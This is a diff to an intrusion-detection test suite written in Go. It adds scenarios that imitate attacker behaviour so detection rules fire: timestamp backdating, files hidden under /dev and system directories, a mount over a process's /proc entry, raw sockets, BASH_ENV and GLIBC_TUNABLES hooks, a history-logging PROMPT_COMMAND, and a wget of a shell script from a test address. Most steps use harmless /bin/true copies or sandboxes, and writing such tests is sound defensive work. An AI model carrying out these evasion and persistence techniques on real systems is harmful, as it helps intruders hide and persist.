@@ -479,6 +479,103 @@ var all = []Scenario{
 	toolRun("shred", "shred run (a /bin/true copy)", []string{"Secure deletion tool executed"}, "shred", "-u", "nothing"),
 	{Name: "mass-delete", Desc: "310 scratch files deleted by one process", Rules: []string{"Mass file deletion"},
 		Run: func(e *Env) error { return e.child("massdelete", filepath.Join(e.Dir, "many"), "310") }},
+	{Name: "backdate", Desc: "touch -m -d giving a scratch file a 2001 date; a /bin/true copy named date run with --set; a planted program under /usr/local/bin (tmpfs, private mount namespace) backdated through utimensat",
+		Rules: []string{"File timestamps set back with touch", "System clock set by hand", "Timestamps of a system file set back"},
+		Run: func(e *Env) error {
+			f := filepath.Join(e.Dir, "stamped")
+			if err := os.WriteFile(f, []byte("x"), 0o644); err != nil {
+				return err
+			}
+			if err := e.run("/usr/bin/touch", "-m", "-d", "2001-02-03 04:05", f); err != nil {
+				return err
+			}
+			if err := e.runTool("date", "--set=1999-12-31 23:59"); err != nil {
+				return err
+			}
+			return e.sandbox("backdate")
+		}},
+	{Name: "hidden-places", Desc: "a dot-directory and an ordinary file made below /dev (removed at once); mkdir of a dot-directory in /dev/shm; in a private mount namespace over tmpfs: a dot-directory in /usr/local/bin, a library in /usr/local/lib, a maintainer script in dpkg's database",
+		Rules: []string{"Directory created below /dev", "Regular file created below /dev", "Hidden directory created in a temporary directory",
+			"Hidden directory created in a system directory", "Directory created in a binary directory",
+			"Library dropped in a system library directory", "Package database written outside a package manager"},
+		Run: func(e *Env) error {
+			if err := e.child("devhide"); err != nil {
+				return err
+			}
+			shm := "/dev/shm/.vigil-simulated-" + filepath.Base(e.Dir)
+			if err := e.run("/bin/mkdir", shm); err != nil {
+				return err
+			}
+			_ = os.Remove(shm)
+			return e.sandbox("hidesys", "libdrop", "pkgdb")
+		}},
+	{Name: "proc-hide", Desc: "in a private mount namespace, an empty directory bind-mounted over a sleeping child's /proc/<pid>",
+		Rules: []string{"Mount over a process's /proc entry"},
+		Run:   func(e *Env) error { return e.sandbox("prochide") }},
+	{Name: "raw-sockets", Desc: "a packet socket for IPv4 frames and a VM socket opened by an unknown program; perl opening a raw ICMP socket",
+		Rules: []string{"Packet socket opened", "Socket of a rarely used address family", "Raw or ICMP socket opened by a shell, interpreter or temporary program"},
+		Run: func(e *Env) error {
+			if err := e.child("sockets"); err != nil {
+				return err
+			}
+			return e.run("/usr/bin/perl", "-MSocket", "-e", "socket(my $s, PF_INET, SOCK_RAW, 1) or exit 1; close $s")
+		}},
+	{Name: "env-hooks", Desc: "bash started with BASH_ENV naming a file in the temporary directory; su --help run by nobody with GLIBC_TUNABLES set; a program started with PROMPT_COMMAND calling logger",
+		Rules: []string{"Start-up hook variable pointing into a temporary directory", "Setuid program started with glibc tunables or an audit library",
+			"Shell prompt command sending or logging commands"},
+		Run: func(e *Env) error {
+			hook := filepath.Join(e.TmpDir, ".bashenv")
+			if err := os.WriteFile(hook, []byte("true\n"), 0o644); err != nil {
+				return err
+			}
+			if err := e.runEnv(nil, []string{"BASH_ENV=" + hook}, "/bin/bash", "-c", "exit 0"); err != nil {
+				return err
+			}
+			nobody := &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
+			if err := e.runEnv(nobody, []string{"GLIBC_TUNABLES=glibc.malloc.check=0"}, "/usr/bin/su", "--help"); err != nil {
+				return err
+			}
+			return e.runEnv(nil, []string{`PROMPT_COMMAND=logger -t vigil-simulated "$(history 1)"`}, "/bin/true")
+		}},
+	{Name: "service-su", Desc: "su --help run by the daemon system account (uid 1)",
+		Rules: []string{"Login or su run by a service account"},
+		Run: func(e *Env) error {
+			daemon := &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 1, Gid: 1}}
+			return e.runEnv(daemon, nil, "/usr/bin/su", "--help")
+		}},
+	{Name: "ns-refused", Desc: "from a real cgroup named like a docker container, a process dropped to nobody has unshare and setns refused",
+		Rules: []string{"Namespace change refused inside a container"},
+		Run: func(e *Env) error {
+			cg, err := containerCgroup()
+			if err != nil {
+				return err
+			}
+			defer os.Remove(cg)
+			defer os.Remove(filepath.Dir(cg))
+			return e.child("nsdeny", cg)
+		}},
+	{Name: "proxy-download", Desc: "/bin/true copies: curl --proxy through a loopback proxy, and wget of a URL on port 8081",
+		Rules: []string{"Download through a proxy or from an unusual port"},
+		Run: func(e *Env) error {
+			if err := e.runTool("curl", "--proxy", "http://127.0.0.1:3128", "http://vigil-simulated.invalid/x"); err != nil {
+				return err
+			}
+			return e.runTool("wget", "-q", "http://192.0.2.10:8081/x.sh")
+		}},
+	{Name: "discovery-tree", Desc: "ten discovery commands of six kinds (/bin/true copies), each run by its own sh -c, as emulation frameworks and C2 agents do",
+		Rules: []string{"Discovery across one process tree"},
+		Run: func(e *Env) error {
+			for _, c := range []string{"whoami", "getent", "uname", "lscpu", "ss", "ps", "dpkg-query", "aa-status", "printenv", "lsns"} {
+				p, err := e.tool(c)
+				if err != nil {
+					return err
+				}
+				if err := e.run("/bin/sh", "-c", p+" >/dev/null"); err != nil {
+					return err
+				}
+			}
+			return nil
+		}},
 	{Name: "download-exec", Desc: "a copy of cp named curl writes a file, which is then executed",
 		Rules: []string{"Downloaded file executed"},
 		Run: func(e *Env) error {
